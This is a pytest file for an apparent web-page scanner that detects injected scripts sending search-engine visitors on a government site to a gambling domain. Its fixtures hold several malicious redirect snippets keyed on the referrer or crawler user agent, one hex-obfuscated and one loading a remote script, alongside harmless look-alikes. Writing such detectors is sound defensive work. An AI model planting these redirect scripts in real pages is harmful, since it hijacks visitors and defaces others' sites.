"""Inline scripts that lead visitors of search engines away, and those that only look so."""

import pytest

from govsweep.facts import SearchRedirect
from govsweep.reading import read_page

URL = "http://www.qinghe.gov.cn/"


def told(script: str) -> tuple[SearchRedirect, ...]:
    html = (
        "<html><head><meta charset='utf-8'><title>清禾市人民政府</title>"
        f"<script>{script}</script></head><body><p>要闻</p></body></html>"
    )
    return read_page(html.encode(), url=URL, content_type="text/html").search_redirects


@pytest.mark.parametrize(
    "script",
    [
        "var r=document.referrer;if(/baidu|sogou|so\\.com/i.test(r)){location.href='http://casino.example/'}",
        'if(document.referrer.indexOf("baidu.com")>0){window.location.replace("//casino.example/a")}',
        "var s=document['referrer'];if(s.match(/google/)){top.location='http://casino.example'}",
        "var u='http://casino.example/';if(document.referrer.indexOf('bing')>-1)location.href=u;",
        "if(/baidu/.test(document.referrer))document.write('<script src=\"http://casino.example/x.js\"><'+'/script>')",
        r"if(document['\x72\x65\x66\x65\x72\x72\x65\x72'].indexOf('sm.cn')>0){location.href='http://casino.example/'}",
        "if(/Baiduspider/i.test(navigator.userAgent)){location.href='http://casino.example/'}",
    ],
    ids=["a test", "an index", "a name", "a variable", "a script", "spelt out", "a spider"],
)
def test_who_comes_from_a_search_is_sent_away(script: str) -> None:
    (one,) = told(script)
    assert one.host == "casino.example"


def test_only_the_way_he_came_to_an_address_is_sure() -> None:
    (by_way,) = told("if(/baidu/.test(document.referrer)){location.href='http://casino.example/'}")
    (written,) = told(
        "if(/baidu/.test(document.referrer))document.write('<script src=//c.example/x.js><'+'/x>')"
    )
    (spider,) = told("if(/Baiduspider/.test(navigator.userAgent)){location.href='//c.example/'}")
    assert (by_way.sure, written.sure, spider.sure) == (True, False, False)


def test_where_to_may_be_put_together() -> None:
    (one,) = told("if(/baidu/.test(document.referrer)){location.href=d('aHR0cDov')+k}")
    assert one.host == ""


@pytest.mark.parametrize(
    "script",
    [
        "_czc.push(['_trackEvent',document.referrer,'baidu']);",
        "if(document.referrer==''){location.href='/index.html'}",
        "if(document.referrer.indexOf('baidu')>0){location.href=document.referrer}",
        "if(/Android|iPhone/.test(navigator.userAgent)){location.href='http://m.qinghe.gov.cn/'}",
        "if(document.referrer.indexOf('baidu')>0){highlight(keyword)}",
        "function s(){location.href='/search?q='+q} var engine='baidu';",
        "if(location.href==document.referrer){alert('baidu')}",
    ],
    ids=[
        *("it counts", "who comes from nowhere", "it goes back", "telephones", "words are marked"),
        *("a search of its own", "a comparison"),
    ],
)
def test_other_scripts_are_left_alone(script: str) -> None:
    assert told(script) == ()


def test_a_script_amid_the_head_is_seen() -> None:
    html = (
        "<html><head><title>清禾</title><script src='/a.js'></script>"
        "<script src='http://x.casino.example/a.js'></script>"
        "<script src='//bcc0e825-2420/inject.js'></script><link href='/a.css'></head></html>"
    )
    page = read_page(html.encode(), url=URL, content_type="text/html")
    assert page.head_scripts == ("x.casino.example",)
